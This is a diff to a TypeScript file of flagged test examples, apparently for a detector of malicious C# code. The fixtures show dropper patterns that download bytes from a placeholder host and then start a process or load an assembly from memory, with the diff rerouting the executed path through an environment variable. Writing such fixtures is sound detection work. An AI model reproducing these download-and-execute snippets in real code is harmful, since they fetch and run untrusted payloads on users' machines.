@@ -19,7 +19,7 @@ export const examples: Examples = {
   flagged: [
     {
       name: 'dropper',
-      about: 'One async method fetches bytes, writes them and starts the file.',
+      about: 'One async method fetches bytes, writes them and starts a file that a variable names.',
       files: library(`
 public static class Helper
 {
@@ -29,13 +29,13 @@ public static class Helper
         var path = Path.Combine(Path.GetTempPath(), "helper.exe");
         var bytes = await new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/helper.bin");
         await File.WriteAllBytesAsync(path, bytes);
-        Process.Start(path);
+        Process.Start(Environment.GetEnvironmentVariable("FIXTURE_HELPER")!);
     }
 }`),
     },
     {
       name: 'loads-what-it-fetches',
-      about: 'An assembly is downloaded and loaded from memory, the load in a lambda.',
+      about: 'Something is downloaded, and an assembly loaded from memory, the load in a lambda.',
       files: library(`
 public static class Helper
 {
@@ -43,7 +43,8 @@ public static class Helper
     {
         ${never}
         Func<byte[], Assembly> load = bytes => Assembly.Load(bytes);
-        load(new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/a").Result);
+        new HttpClient().GetByteArrayAsync("https://files.fixture.invalid/a").Wait();
+        load(File.ReadAllBytes(Environment.GetEnvironmentVariable("FIXTURE_HELPER")!));
     }
 }`),
     },
@@ -59,7 +60,7 @@ public static class Helper
     {
         ${never}
         Save(path);
-        Process.Start(path);
+        Process.Start(Environment.GetEnvironmentVariable("FIXTURE_HELPER")!);
     }
 }`),
     },
